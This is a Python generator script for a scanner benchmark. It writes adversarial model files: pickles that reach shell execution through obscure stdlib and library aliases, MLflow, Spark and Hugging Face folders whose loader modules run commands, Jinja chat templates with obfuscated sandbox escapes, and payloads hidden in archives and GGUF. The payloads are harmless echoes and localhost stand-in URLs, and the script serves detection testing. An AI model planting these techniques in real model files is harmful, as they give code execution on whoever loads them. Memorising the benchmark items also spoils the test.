#!/usr/bin/env python3
"""Writes bench/scan/blind6/adversarial/ (stdlib only, opcode by opcode, deterministic).

Every file is expected `flagged` (suspicious or malicious, never clean). Nothing here is ever
loaded: the pickles are assembled from opcodes and checked with pickletools.dis (a parser).
Payloads are harmless: `echo mlsec-blind6`, /tmp/mlsec_blind6*, http://127.0.0.1:9/.
Usage: python3 bench/scan/blind6/gen_adversarial.py   (--check also resolves every global name
with importlib, without calling anything; run it with the interpreter whose libraries you want).
"""
import base64, io, json, os, pickletools, shutil, struct, sys, tarfile, zipfile, zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "adversarial")
CMD = "echo mlsec-blind6"
URL = "http://127.0.0.1:9/"
ROWS = []
NAMES = []  # (proto, module, name) of every global, for --check


# ---------------------------------------------------------------- a tiny pickle assembler
class G:  # a global
    def __init__(self, mod, name):
        self.mod, self.name = mod, name


class Call:  # fn(*args) through REDUCE
    def __init__(self, fn, *args):
        self.fn, self.args = fn, args


class Build:  # obj then BUILD state
    def __init__(self, obj, state):
        self.obj, self.state = obj, state


class SetItems:  # obj then MARK k v ... SETITEMS (obj[k] = v without a call opcode)
    def __init__(self, obj, items):
        self.obj, self.items = obj, items


def kwcall(fn, kwargs, *args):
    """fn(*args, **kwargs) the way a pickled functools.partial is rebuilt: REDUCE, BUILD, REDUCE."""
    part = Build(Call(G("_functools", "partial"), fn), (fn, (), kwargs, None))
    return Call(part, *args)


def enc(x, proto):
    if isinstance(x, G):
        NAMES.append((proto, x.mod, x.name))
        if proto < 4:
            return b"c" + x.mod.encode() + b"\n" + x.name.encode() + b"\n"
        return enc(x.mod, proto) + enc(x.name, proto) + b"\x93"
    if isinstance(x, Call):
        return enc(x.fn, proto) + enc(tuple(x.args), proto) + b"R"
    if isinstance(x, Build):
        return enc(x.obj, proto) + enc(x.state, proto) + b"b"
    if isinstance(x, SetItems):
        return enc(x.obj, proto) + b"(" + b"".join(enc(k, proto) + enc(v, proto) for k, v in x.items.items()) + b"u"
    if x is None:
        return b"N"
    if x is True:
        return b"\x88"
    if x is False:
        return b"\x89"
    if isinstance(x, int):
        if 0 <= x < 256:
            return b"K" + bytes([x])
        if -2**31 <= x < 2**31:
            return b"J" + struct.pack("<i", x)
        n = (x.bit_length() + 8) // 8
        return b"\x8a" + bytes([n]) + x.to_bytes(n, "little", signed=True)
    if isinstance(x, float):
        return b"G" + struct.pack(">d", x)
    if isinstance(x, str):
        b = x.encode("utf-8")
        if proto >= 4 and len(b) < 256:
            return b"\x8c" + bytes([len(b)]) + b
        return b"X" + struct.pack("<I", len(b)) + b
    if isinstance(x, bytes):
        if proto < 3:  # the way Python 2-compatible pickles carry bytes
            return enc(Call(G("_codecs", "encode"), x.decode("latin1"), "latin1"), proto)
        if len(x) < 256:
            return b"C" + bytes([len(x)]) + x
        return b"B" + struct.pack("<I", len(x)) + x
    if isinstance(x, tuple):
        if len(x) == 0:
            return b")"
        body = b"".join(enc(i, proto) for i in x)
        if len(x) <= 3:
            return body + {1: b"\x85", 2: b"\x86", 3: b"\x87"}[len(x)]
        return b"(" + body + b"t"
    if isinstance(x, list):
        if not x:
            return b"]"
        return b"](" + b"".join(enc(i, proto) for i in x) + b"e"
    if isinstance(x, dict):
        if not x:
            return b"}"
        return b"}(" + b"".join(enc(k, proto) + enc(v, proto) for k, v in x.items()) + b"u"
    raise TypeError(type(x))


def pk(x, proto=4):
    data = b"\x80" + bytes([proto]) + enc(x, proto) + b"."
    pickletools.dis(data, out=io.StringIO())  # parse only, never load
    return data


def sysc(cmd=CMD):  # the plain inner payload of nested pickles
    return pk(Call(G("posix", "system"), cmd), 2)


def write(rel, data, cls, what):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode("utf-8"))
    ROWS.append((rel, cls, what))


def zip_bytes(members, method=zipfile.ZIP_STORED, prefix=b""):
    bio = io.BytesIO()
    bio.write(prefix)
    with zipfile.ZipFile(bio, "w") as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            zi.compress_type = method
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return bio.getvalue()


def tar_bytes(members, mode="w", fmt=tarfile.PAX_FORMAT):
    bio = io.BytesIO()
    if mode == "w:gz":  # tarfile's gzip header embeds a time: write it ourselves
        raw = tar_bytes(members, "w", fmt)
        import gzip
        return gzip.compress(raw, compresslevel=6, mtime=0)
    with tarfile.open(fileobj=bio, mode=mode, format=fmt) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime, ti.mode, ti.uid, ti.gid, ti.uname, ti.gname = len(data), 0, 0o644, 0, 0, "", ""
            t.addfile(ti, io.BytesIO(data))
    return bio.getvalue()


def npy_object(pickle_bytes):
    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr = hdr + " " * (63 - (10 + len(hdr)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() + pickle_bytes


def torch_zip(data_pkl, folder="archive"):
    return zip_bytes([(f"{folder}/data.pkl", data_pkl), (f"{folder}/byteorder", b"little"),
                      (f"{folder}/version", b"3\n"), (f"{folder}/.data/serialization_id", b"0" * 40)])


def zstd_raw(data, block=4096):
    """A Zstandard frame of raw (stored) blocks: magic, single-segment descriptor with a 4-byte
    content size, then blocks with a 3-byte header (last flag, type 0 = raw, size)."""
    out = bytearray(b"\x28\xb5\x2f\xfd") + bytes([0xA0]) + struct.pack("<I", len(data))
    chunks = [data[i:i + block] for i in range(0, len(data), block)] or [b""]
    for i, c in enumerate(chunks):
        last = 1 if i == len(chunks) - 1 else 0
        out += struct.pack("<I", last | (0 << 1) | (len(c) << 3))[:3] + c
    return bytes(out)


def sd(obj):
    """wrap a call as the value of a plausible state_dict-like dict"""
    return {"model_state": {"fc.weight": Call(G("collections", "OrderedDict"))}, "epoch": 3, "meta": obj}


# ================================================================ A. stdlib alias / re-export names
def gen_a():
    C = "A stdlib alias"
    # Python 2 names that fix_imports (protocol < 3) maps onto dangerous Python 3 callables
    write("a_py2_commands_getoutput.pkl", pk(Call(G("commands", "getoutput"), CMD), 2), C,
          "proto 2 `commands.getoutput` -> subprocess.getoutput (_compat_pickle IMPORT_MAPPING)")
    write("a_py2_commands_getstatusoutput.pkl", pk(sd(Call(G("commands", "getstatusoutput"), CMD)), 2), C,
          "proto 2 `commands.getstatusoutput` inside a checkpoint dict")
    write("a_py2_commands_reduce_call.pkl", pk(Call(G("__builtin__", "reduce"), G("commands", "call"), [0], ["sh", "-c", CMD]), 2), C,
          "`__builtin__.reduce` (-> functools.reduce) invoking `commands.call` (-> subprocess.call(['sh','-c',..], 0))")
    write("a_py2_cpickle_loads.pkl", pk(Call(G("cPickle", "loads"), sysc()), 2), C,
          "`cPickle.loads` (-> pickle.loads) of an inner pickle, bytes via _codecs.encode")
    write("a_py2_copy_reg_reconstructor_popen.pkl",
          pk(Call(G("copy_reg", "_reconstructor"), G("commands", "Popen"), G("commands", "Popen"), ["sh", "-c", CMD]), 2), C,
          "`copy_reg._reconstructor(cls, base=Popen, state=argv)` runs Popen.__init__; both names Python 2 spellings")
    write("a_py2_thread_start_new_thread.pkl",
          pk(Call(G("thread", "start_new_thread"), G("commands", "getoutput"), (CMD,)), 2), C,
          "`thread.start_new_thread` (-> _thread) with `commands.getoutput`")
    imp = Call(G("__builtin__", "__import__"), "os")
    write("a_py2_builtin_import_getattr.pkl",
          pk(Call(Call(G("__builtin__", "getattr"), imp, "system"), CMD), 2), C,
          "`__builtin__.__import__('os')` + `__builtin__.getattr(.., 'system')`")
    write("a_py2_itertools_imap.pkl",
          pk(Call(G("__builtin__", "list"), Call(G("itertools", "imap"), G("commands", "getoutput"), [CMD])), 2), C,
          "`itertools.imap` (-> builtins.map) of `commands.getoutput`, consumed by `__builtin__.list`")
    write("a_py2_urllib2_urlopen.pkl", pk(Call(G("urllib2", "urlopen"), URL + "beacon"), 2), C,
          "`urllib2.urlopen` (-> urllib.request.urlopen)")
    proc = Call(G("multiprocessing.process", "Process"), None, G("commands", "getoutput"), None, (CMD,))
    write("a_py2_multiprocessing_forking_popen.pkl", pk(Call(G("multiprocessing.forking", "Popen"), proc), 2), C,
          "`multiprocessing.forking.Popen` (-> popen_fork.Popen: forks, child runs Process(target=getoutput))")
    write("a_py2_anydbm_open.pkl", pk(Call(G("anydbm", "open"), "/tmp/mlsec_blind6_anydbm", "c"), 2), C,
          "`anydbm.open(p, 'c')` (-> dbm.open) creates files")
    write("a_py2_dumbdbm_open.pkl", pk(Call(G("dumbdbm", "open"), "/tmp/mlsec_blind6_dumbdbm", "n"), 2), C,
          "`dumbdbm.open(p, 'n')` (-> dbm.dumb.open) creates/truncates files")
    write("a_py2_basehttpserver_httpserver.pkl",
          pk(Call(G("BaseHTTPServer", "HTTPServer"), ("127.0.0.1", 0), G("SimpleHTTPServer", "SimpleHTTPRequestHandler")), 2), C,
          "`BaseHTTPServer.HTTPServer` + `SimpleHTTPServer.SimpleHTTPRequestHandler` (-> http.server) binds a port")
    write("a_py2_simplehttpserver_test.pkl", pk(Call(G("SimpleHTTPServer", "test")), 2), C,
          "`SimpleHTTPServer.test()` (-> http.server.test): serves the cwd on 0.0.0.0:8000 forever")
    # Python 3 modules that re-export a dangerous callable under their own name
    write("a_reexport_cygwinccompiler_check_output.pkl",
          pk(Call(G("distutils.cygwinccompiler", "check_output"), ["sh", "-c", CMD])), C,
          "`distutils.cygwinccompiler.check_output` is `subprocess.check_output` (from-import)")
    write("a_reexport_ctypes_aix_popen.pkl", pk(Call(G("ctypes._aix", "Popen"), ["sh", "-c", CMD])), C,
          "`ctypes._aix.Popen` is `subprocess.Popen` (from-import)")
    write("a_reexport_tokenize_builtin_open.pkl", pk(Call(G("tokenize", "_builtin_open"), "/tmp/mlsec_blind6_tok", "w")), C,
          "`tokenize._builtin_open` is `builtins.open`: truncates a file")
    write("a_reexport_tarfile_bltn_open.pkl", pk(Call(G("tarfile", "bltn_open"), "/tmp/mlsec_blind6_tar", "w")), C,
          "`tarfile.bltn_open` is `builtins.open`")
    write("a_reexport_bz2_builtin_open.pkl", pk(sd(Call(G("bz2", "_builtin_open"), "/tmp/mlsec_blind6_bz2", "wb"))), C,
          "`bz2._builtin_open` is `builtins.open`, inside a checkpoint dict")
    mod = Call(G("importlib.metadata", "import_module"), "os")
    write("a_reexport_importlib_metadata_import_module.pkl",
          pk(Call(Call(G("_operator", "methodcaller"), "system", CMD), mod)), C,
          "`importlib.metadata.import_module` is `importlib.import_module`; called through `_operator.methodcaller`")
    unp = Call(G("shelve", "Unpickler"), Call(G("_io", "BytesIO"), sysc()))
    write("a_reexport_shelve_unpickler.pkl", pk(Call(Call(G("_operator", "methodcaller"), "load"), unp)), C,
          "`shelve.Unpickler` is `pickle.Unpickler`; `.load()` via `_operator.methodcaller`")
    write("a_reexport_asyncio_create_subprocess_shell.pkl",
          pk(Call(G("asyncio", "run"), Call(G("asyncio", "create_subprocess_shell"), CMD))), C,
          "`asyncio.run(asyncio.create_subprocess_shell(cmd))` (re-exported from asyncio.subprocess)")
    write("a_reexport_asyncio_create_subprocess_exec.pkl",
          pk(Call(G("asyncio", "run"), Call(G("asyncio", "create_subprocess_exec"), "sh", "-c", CMD))), C,
          "`asyncio.run(asyncio.create_subprocess_exec('sh','-c',cmd))`")
    # _operator / _functools (the C modules behind operator / functools)
    write("a_c_operator_methodcaller_shutil_os.pkl",
          pk(Call(Call(G("_operator", "methodcaller"), "system", CMD), G("shutil", "os"))), C,
          "`_operator.methodcaller('system', cmd)` applied to `shutil.os` (a module attribute, no dotted name)")
    write("a_c_operator_attrgetter_pty_os.pkl",
          pk(Call(Call(Call(G("_operator", "attrgetter"), "system"), G("pty", "os")), CMD)), C,
          "`_operator.attrgetter('system')(pty.os)(cmd)`")
    write("a_c_operator_call.pkl", pk(Call(G("_operator", "call"), G("subprocess", "getoutput"), CMD)), C,
          "`_operator.call(subprocess.getoutput, cmd)` (3.11 C implementation of operator.call)")
    write("a_c_operator_getitem_copyreg_builtins.pkl",
          pk(Call(Call(G("_operator", "getitem"), G("copyreg", "__builtins__"), "exec"), "import os; os.system('%s')" % CMD)), C,
          "`_operator.getitem(copyreg.__builtins__, 'exec')` (a module's `__builtins__` dict, modelscan #89/#330 class)")
    write("a_c_functools_reduce_check_output.pkl",
          pk(Call(G("_functools", "reduce"), G("distutils.cygwinccompiler", "check_output"), [None], ["sh", "-c", CMD])), C,
          "`_functools.reduce(check_output alias, [None], argv)` -> check_output(argv, None)")
    part = Call(G("_functools", "partial"), G("ctypes._aix", "Popen"), ["sh", "-c", CMD])
    write("a_c_functools_partial_then_called.pkl", pk(Call(part)), C,
          "`_functools.partial(ctypes._aix.Popen, argv)` then the partial itself REDUCEd")
    write("a_builtins_dict_get_collections.pkl",
          pk(Call(Call(G("builtins", "dict.get"), G("collections", "__builtins__"), "eval"), "__import__('os').system('%s')" % CMD)), C,
          "`builtins.dict.get(collections.__builtins__, 'eval')` (protocol-4 dotted name on the dict type)")
    # innocent stdlib helpers (advisories / issues: modelscan PR #346 mailcap; the rest read in the 3.11 sources)
    caps = {"text/plain": [{"view": "cat %s", "test": CMD}]}
    write("a_mailcap_findmatch.pkl", pk(Call(G("mailcap", "findmatch"), caps, "text/plain")), C,
          "`mailcap.findmatch` runs the entry's `test` with os.system (modelscan PR #346)")
    write("a_pydoc_tempfilepager.pkl", pk(Call(G("pydoc", "tempfilepager"), "x", CMD + " #")), C,
          "`pydoc.tempfilepager(text, cmd)` -> os.system(cmd + file)")
    write("a_pydoc_safeimport.pkl",
          pk(Call(Call(G("_operator", "methodcaller"), "system", CMD), Call(G("pydoc", "safeimport"), "os"))), C,
          "`pydoc.safeimport('os')`: a universal importer")
    write("a_doctest_normalize_module.pkl",
          pk(Call(Call(G("_operator", "methodcaller"), "system", CMD), Call(G("doctest", "_normalize_module"), "os"))), C,
          "`doctest._normalize_module('os')` -> __import__")
    write("a_xmlrpc_resolve_dotted_attribute.pkl",
          pk(Call(Call(G("xmlrpc.server", "resolve_dotted_attribute"), G("shutil", "os"), "system"), CMD)), C,
          "`xmlrpc.server.resolve_dotted_attribute(shutil.os, 'system')`: an attribute walker")
    write("a_imp_load_source.pkl", pk(Call(G("imp", "load_source"), "mlsec_blind6", "/tmp/mlsec_blind6.py")), C,
          "`imp.load_source(name, path)` executes a Python file")
    write("a_imp_load_dynamic.pkl", pk(Call(G("imp", "load_dynamic"), "mlsec_blind6", "/tmp/mlsec_blind6.so")), C,
          "`imp.load_dynamic` loads a shared library")


# ================================================================ B. dangerous callables in library namespaces
def gen_b():
    C = "B library namespace"
    write("b_numpy_lib2def_getnm.pkl", pk(Call(G("numpy.distutils.lib2def", "getnm"), CMD)), C,
          "numpy `distutils.lib2def.getnm(cmd)` -> Popen(cmd, shell=True)")
    inner = zlib.compress(sysc(), 9)
    write("b_numpy_load_allow_pickle_zlib.pkl",
          pk(Call(G("numpy", "load"), Call(G("_io", "BytesIO"), Call(G("zlib", "decompress"), inner)), None, True)), C,
          "`numpy.load(BytesIO(zlib.decompress(..)), None, True)`: positional allow_pickle, inner pickle deflated")
    write("b_numpy_npyio_load_allow_pickle.pkl",
          pk(sd(Call(G("numpy.lib.npyio", "load"), Call(G("_io", "BytesIO"), npy_object(sysc())), None, True))), C,
          "`numpy.lib.npyio.load` (the same function) of an object .npy, allow_pickle positional")
    mat = Call(G("scipy.sparse", "csr_matrix"), (3, 3))
    write("b_scipy_sparse_save_npz.pkl", pk(Call(G("scipy.sparse", "save_npz"), "/tmp/mlsec_blind6.npz", mat)), C,
          "`scipy.sparse.save_npz(path, m)` writes a file")
    write("b_scipy_io_hb_write.pkl", pk(Call(G("scipy.io", "hb_write"), "/tmp/mlsec_blind6.hb", mat)), C,
          "`scipy.io.hb_write(path, m)` writes a file")
    write("b_pandas_read_pickle_url.pkl", pk(Call(G("pandas", "read_pickle"), URL + "m.pkl")), C,
          "`pandas.read_pickle(URL)` downloads and unpickles (modelscan #269)")
    write("b_pandas_to_pickle_path.pkl", pk(Call(G("pandas", "to_pickle"), {"a": 1}, "/tmp/mlsec_blind6.pkl")), C,
          "`pandas.to_pickle(obj, path)` writes a file")
    write("b_pandas_show_versions_json.pkl", pk(Call(G("pandas.util._print_versions", "show_versions"), "/tmp/mlsec_blind6.json")), C,
          "`pandas show_versions(as_json=path)` writes a file")
    write("b_sklearn_assert_run_python_script.pkl",
          pk(Call(G("sklearn.utils._testing", "assert_run_python_script"), "import os; os.system('%s')" % CMD)), C,
          "sklearn `utils._testing.assert_run_python_script(src)` runs Python source in a subprocess")
    write("b_sklearn_clear_data_home.pkl", pk(Call(G("sklearn.datasets", "clear_data_home"), "/tmp/mlsec_blind6_home")), C,
          "`sklearn.datasets.clear_data_home(path)` -> shutil.rmtree")
    write("b_sklearn_utils_joblib_load.pkl", pk(Call(G("sklearn.utils._joblib", "load"), "/tmp/mlsec_blind6.joblib")), C,
          "`sklearn.utils._joblib.load` is `joblib.load` of another file")
    write("b_sklearn_utils_joblib_dump.pkl", pk(Call(G("sklearn.utils._joblib", "dump"), {"a": 1}, "/tmp/mlsec_blind6.joblib")), C,
          "`sklearn.utils._joblib.dump(obj, path)` writes a file")
    write("b_joblib_cloudpickle_loads.pkl", pk(Call(G("joblib.externals.cloudpickle", "loads"), sysc())), C,
          "`joblib.externals.cloudpickle.loads` is `pickle.loads` (vendored cloudpickle re-export)")
    write("b_torch_model_zoo_load_url.pkl", pk(sd(Call(G("torch.utils.model_zoo", "load_url"), URL + "w.pt"))), C,
          "`torch.utils.model_zoo.load_url` (alias of hub.load_state_dict_from_url): download + torch.load")
    write("b_torch_hub_load_state_dict_from_url.pkl", pk(Call(G("torch.hub", "load_state_dict_from_url"), URL + "w.pt")), C,
          "`torch.hub.load_state_dict_from_url(URL)`")
    write("b_torch_serialization_open_file.pkl", pk(Call(G("torch.serialization", "_open_file"), "/tmp/mlsec_blind6.pt", "wb")), C,
          "`torch.serialization._open_file(p, 'wb')` truncates a file")
    write("b_torch_cpp_jit_compile_timeit.pkl",
          pk(kwcall(G("torch.utils.benchmark.utils.cpp_jit", "compile_timeit_template"),
                    {"stmt": "system(\"%s\");" % CMD, "setup": "", "global_setup": "#include <cstdlib>"})), C,
          "torch benchmark `cpp_jit.compile_timeit_template` (compiles and loads C++), kwargs via a rebuilt partial")
    write("b_torch_collect_env_run.pkl", pk(Call(G("torch.utils.collect_env", "run"), CMD)), C,
          "`torch.utils.collect_env.run(cmd)` -> Popen(shell=True) (modelscan #338)")
    write("b_statsmodels_api_load.pkl", pk(Call(G("statsmodels.api", "load"), "/tmp/mlsec_blind6.pickle")), C,
          "`statsmodels.api.load` (alias of load_pickle) of another file")
    write("b_statsmodels_iolib_api_load_pickle.pkl", pk(Call(G("statsmodels.iolib.api", "load_pickle"), URL + "m.pickle")), C,
          "`statsmodels.iolib.api.load_pickle` (re-export)")
    write("b_statsmodels_save_pickle.pkl", pk(Call(G("statsmodels.iolib.smpickle", "save_pickle"), {"a": 1}, "/tmp/mlsec_blind6.pickle")), C,
          "`statsmodels save_pickle(obj, path)` writes a file")
    write("b_mlflow_run_entry_point.pkl",
          pk(Call(G("mlflow.projects.backend.local", "_run_entry_point"), CMD, ".", "", {})), C,
          "`mlflow.projects.backend.local._run_entry_point(cmd, ...)` (modelscan #338; mlflow not installed here)")
    write("b_datapipes_decoder_pickle_loads.pkl",
          pk(Call(Call(G("builtins", "getattr"), G("torch.utils.data.datapipes.utils.decoder", "pickle"), "loads"), sysc())), C,
          "`pickle` module object re-exported by a torch datapipes module, `.loads` via getattr")


# ================================================================ C. MLflow model folders
MLMODEL_HEAD = "artifact_path: model\nmlflow_version: 2.9.2\nmodel_uuid: 6b1c0e5d2f6a4c1e9c8f0a1b2c3d4e5f\nutc_time_created: '2026-01-01 00:00:00.000000'\n"


def gen_c():
    C = "C MLflow folder"
    d = "mlflow_custom_loader_module"
    write(f"{d}/MLmodel", MLMODEL_HEAD + "flavors:\n  python_function:\n    code: code\n    data: data\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: custom_loader\n    python_version: 3.11.2\n", C,
          "MLmodel python_function `loader_module: custom_loader` with `code: code` (mlflow imports it from code/)")
    write(f"{d}/code/custom_loader.py", "import os\n\n\ndef _load_pyfunc(path):\n    os.system('%s')\n    return None\n" % CMD, C,
          "the loader module: `_load_pyfunc` runs a command")
    d = "mlflow_pyfunc_code_paths"
    write(f"{d}/MLmodel", MLMODEL_HEAD + "flavors:\n  python_function:\n    cloudpickle_version: 3.0.0\n    code: code\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    python_version: 3.11.2\n", C,
          "MLmodel pyfunc with `code: code`: the pickle below imports a module shipped in code/")
    write(f"{d}/code/helpers/__init__.py", "import subprocess\n\nsubprocess.run(['sh', '-c', '%s'])\n\n\nclass Model:\n    pass\n" % CMD, C,
          "code/helpers/__init__.py runs a command at import")
    write(f"{d}/python_model.pkl", pk(Call(G("copyreg", "_reconstructor"), G("helpers", "Model"), G("builtins", "object"), None), 5), C,
          "python_model.pkl (cloudpickle by reference): `helpers.Model` from the shipped code path")
    d = "mlflow_sklearn_model"
    write(f"{d}/model.pkl", pk(Call(G("subprocess", "check_output"), ["sh", "-c", CMD]), 4), C,
          "sklearn flavor `pickled_model: model.pkl` whose pickle calls subprocess.check_output (MLflow CVE-2024-37052 class)")
    d = "mlflow_pytorch_model"
    write(f"{d}/data/model.pth", torch_zip(pk(Call(G("posix", "system"), CMD), 2), "model"), C,
          "pytorch flavor `data/model.pth`, a torch zip whose data.pkl calls posix.system")
    d = "mlflow_pyfunc_artifact"
    write(f"{d}/artifacts/preprocessor.bin", pk(Call(G("commands", "getoutput"), CMD), 2), C,
          "pyfunc `artifacts: preprocessor: artifacts/preprocessor.bin`: a raw protocol-2 pickle named .bin")
    d = "mlflow_python_env_index"
    write(f"{d}/python_env.yaml", "python: 3.11.2\nbuild_dependencies:\n  - pip==23.3.1\n  - setuptools\n  - wheel\ndependencies:\n  - --extra-index-url " + URL + "simple\n  - -r requirements.txt\n  - mlsec-blind6-helper==0.1\n", C,
          "python_env.yaml installing from an attacker index (scope: runs at `mlflow models serve/predict` env creation)")


# ================================================================ D. Spark ML folders
def gen_d():
    C = "D Spark ML folder"
    d = "spark_pipeline_pickled_udf"
    meta = {"class": "mlsec_blind6_stage.PickledUDFTransformer", "timestamp": 1767225600000, "sparkVersion": "3.5.0",
            "uid": "PickledUDFTransformer_4f2a", "paramMap": {"inputCol": "text", "outputCol": "clean"},
            "defaultParamMap": {}, "language": "Python"}
    write(f"{d}/stages/0_PickledUDFTransformer_4f2a/metadata/part-00000", json.dumps(meta, separators=(",", ":")) + "\n", C,
          "stage metadata naming a custom Python class (pyspark DefaultParamsReader imports `module.Class`)")
    udf = Call(G("joblib.externals.cloudpickle", "loads"), sysc())
    write(f"{d}/stages/0_PickledUDFTransformer_4f2a/data/part-00000", pk(udf, 5), C,
          "the stage's pickled UDF (no extension), cloudpickle-style `loads` of a nested payload")
    d = "spark_parammap_b64_udf"
    meta = {"class": "pyspark.ml.feature.SQLTransformer", "timestamp": 1767225600000, "sparkVersion": "3.5.0",
            "uid": "SQLTransformer_9c1d", "paramMap": {"statement": "SELECT * FROM __THIS__",
                                                       "udf": base64.b64encode(sysc()).decode()}, "defaultParamMap": {}}
    write(f"{d}/metadata/part-00000", json.dumps(meta, separators=(",", ":")) + "\n", C,
          "metadata JSON carrying a base64 pickle of a UDF in paramMap")
    d = "spark_pipeline_stage_py"
    write(f"{d}/mlsec_blind6_stage.py", "import os\n\nos.system('%s')\n\n\nclass PickledUDFTransformer:\n    pass\n" % CMD, C,
          "the custom stage module shipped next to the pipeline (import runs a command)")


# ================================================================ E. HF folders
def gen_e():
    C = "E HF folder"
    d = "hf_lora_adapter_auto_map"
    write(f"{d}/adapter_config.json", json.dumps({
        "alpha_pattern": {}, "auto_map": {"AutoModelForCausalLM": "modeling_adapter.AdapterModel"},
        "base_model_name_or_path": "TinyLlama/TinyLlama-1.1B-Chat-v1.0", "bias": "none", "fan_in_fan_out": False,
        "inference_mode": True, "lora_alpha": 16, "lora_dropout": 0.05, "peft_type": "LORA", "r": 8,
        "target_modules": ["q_proj", "v_proj"], "task_type": "CAUSAL_LM"}, indent=2) + "\n", C,
        "LoRA adapter_config.json with `auto_map` into a local module")
    write(f"{d}/modeling_adapter.py", "import os\n\nos.system('%s')\n\n\nclass AdapterModel:\n    pass\n" % CMD, C,
          "the auto_map module")
    d = "hf_lora_adapter_remote_auto_map"
    write(f"{d}/adapter_config.json", json.dumps({
        "auto_map": {"AutoModel": "mlsec-blind6/evil-repo--modeling_evil.EvilModel"},
        "base_model_name_or_path": "mlsec-blind6/evil-repo", "peft_type": "LORA", "r": 4, "lora_alpha": 8,
        "target_modules": ["c_attn"], "task_type": "CAUSAL_LM"}, indent=2) + "\n", C,
        "adapter_config.json `auto_map` into another repo (`repo--module.Class`)")
    d = "hf_video_processor_auto_map"
    write(f"{d}/video_preprocessor_config.json", json.dumps({
        "auto_map": {"AutoVideoProcessor": "video_processing_evil.EvilVideoProcessor"},
        "video_processor_type": "EvilVideoProcessor", "do_resize": True, "size": {"shortest_edge": 224}}, indent=2) + "\n", C,
        "video_preprocessor_config.json `auto_map` (AutoVideoProcessor)")
    write(f"{d}/video_processing_evil.py", "import subprocess\n\nsubprocess.call('%s', shell=True)\n\n\nclass EvilVideoProcessor:\n    pass\n" % CMD, C,
          "the video processor module")
    # chat templates built without a literal dunder in any expression
    t_block = ("{%- set i -%}__init__{%- endset -%}{%- set g -%}__globals__{%- endset -%}"
               "{{ (cycler|attr(i)|attr(g)).os.popen('@CMD@').read() }}"
               "{% for m in messages %}{{ m['content'] }}{% endfor %}").replace("@CMD@", CMD)
    t_replace = ("{%- set n = 'XXinitXX'|replace('X', '_') -%}{%- set gl = 'XXglobalsXX'|replace('X', '_') -%}"
                 "{{ ((joiner|attr(n))|attr(gl)).os.popen('@CMD@').read() }}"
                 "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}").replace("@CMD@", CMD)
    t_tilde = ("{%- set u = '_' -%}{%- set n = u~u~'init'~u~u -%}{%- set gl = u~u~'globals'~u~u -%}"
               "{{ (namespace|attr(n)|attr(gl))['os'].system('@CMD@') }}"
               "{% for m in messages %}{{ m['content'] }}{% endfor %}").replace("@CMD@", CMD)
    t_reverse = ("{%- set n = '__tini__'|reverse -%}{%- set gl = '__slabolg__'|reverse -%}"
                 "{{ (lipsum|attr(gl))['os'].popen('@CMD@').read() }}{{ n }}"
                 "{% for m in messages %}{{ m['content'] }}{% endfor %}").replace("@CMD@", CMD)
    write("hf_chat_template_json/chat_template.json", json.dumps({"chat_template": t_block}, indent=2) + "\n", C,
          "chat_template.json (processor-style file) whose template names `__globals__` only in `{% set %}` block text")
    write("hf_tpl_replace/tokenizer_config.json", json.dumps({"bos_token": "<s>", "eos_token": "</s>", "chat_template": t_replace,
                                                         "tokenizer_class": "LlamaTokenizer"}, indent=2) + "\n", C,
          "template: dunder names made by `|replace('X','_')`, `joiner.__init__.__globals__`")
    write("hf_tpl_tilde/tokenizer_config.json", json.dumps({"eos_token": "</s>", "chat_template": t_tilde}, indent=2) + "\n", C,
          "template: dunder names made by `~` concatenation of a single '_' variable")
    write("hf_tpl_reverse/tokenizer_config.json", json.dumps({"eos_token": "</s>", "chat_template": t_reverse}, indent=2) + "\n", C,
          "template: dunder names made by `|reverse` of reversed strings, `lipsum.__globals__`")
    write("hf_tpl_block/chat_template.jinja", t_block, C, "the block-set template as a `chat_template.jinja` file (named .jinja)")
    write("t_gguf_replace.gguf", gguf_template(t_replace), C, "the replace template as a GGUF tokenizer.chat_template")


def gguf_template(tpl):
    def s(x):
        b = x.encode()
        return struct.pack("<Q", len(b)) + b
    kv = [(s("general.architecture"), 8, s("llama")), (s("general.name"), 8, s("mlsec-blind6")),
          (s("tokenizer.chat_template"), 8, s(tpl))]
    out = b"GGUF" + struct.pack("<I", 3) + struct.pack("<Q", 0) + struct.pack("<Q", len(kv))
    for k, t, v in kv:
        out += k + struct.pack("<I", t) + v
    return out + b"\x00" * ((32 - len(out) % 32) % 32)


# ================================================================ F. archives / compressions the loaders accept
def gen_f():
    C = "F container"
    p = pk(sd(Call(G("subprocess", "getoutput"), CMD)), 4)
    write("f_pandas_pkl.tar", tar_bytes([("frame.pkl", p)]), C,
          "pandas 1.5 `read_pickle` tar compression (`.tar`, one member)")
    write("f_pandas_pkl.tar.gz", tar_bytes([("frame.pkl", p)], "w:gz"), C, "pandas tar compression, `.tar.gz`")
    write("f_pandas_pkl.tar.xz", _xz(tar_bytes([("frame.pkl", p)])), C, "pandas tar compression, `.tar.xz`")
    write("f_pandas.pkl.zst", zstd_raw(p), C, "pandas `.zst` (zstandard) inference: a frame of one raw block")
    write("f_pandas_two_blocks.pkl.zst", zstd_raw(p, 40), C, "zstandard frame, the pickle split across raw blocks")
    legacy = [("sys_info", pk({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)),
              ("pickle", pk(Call(G("posix", "system"), CMD), 2)), ("tensors", pk(0, 2)), ("storages", pk(0, 2))]
    write("f_torch_legacy_tar.pt", tar_bytes(legacy), C,
          "torch's oldest format: a tar with sys_info/pickle/tensors/storages members (`_legacy_load` tar path)")
